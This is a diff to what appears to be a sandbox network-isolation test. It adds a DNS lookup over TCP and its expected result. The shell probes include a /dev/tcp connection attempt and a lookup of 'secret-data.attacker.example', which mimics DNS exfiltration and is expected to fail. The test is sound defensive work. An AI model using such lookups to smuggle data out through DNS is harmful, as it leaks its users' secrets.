@@ -114,6 +114,7 @@ for path in ["/1", "/2", "/3"]:
       (echo > /dev/tcp/127.0.0.1/${ports.plain}) 2>&1 | grep -o -m 1 "Connection refused"
       getent ahosts secret-data.attacker.example || echo no such name
       getent ahosts host.internal | head -n 1 | cut -d' ' -f1
+      RES_OPTIONS=use-vc getent ahosts host.internal | head -n 1 | cut -d' ' -f1
       cat /etc/resolv.conf | grep nameserver
     `);
     expect(stdout.split("\n")).toEqual([
@@ -121,6 +122,7 @@ for path in ["/1", "/2", "/3"]:
       ...Array(4).fill("Network is unreachable"),
       "Connection refused",
       "no such name",
+      "127.84.0.1",
       "127.84.0.1",
       "nameserver 127.83.0.1",
       "",
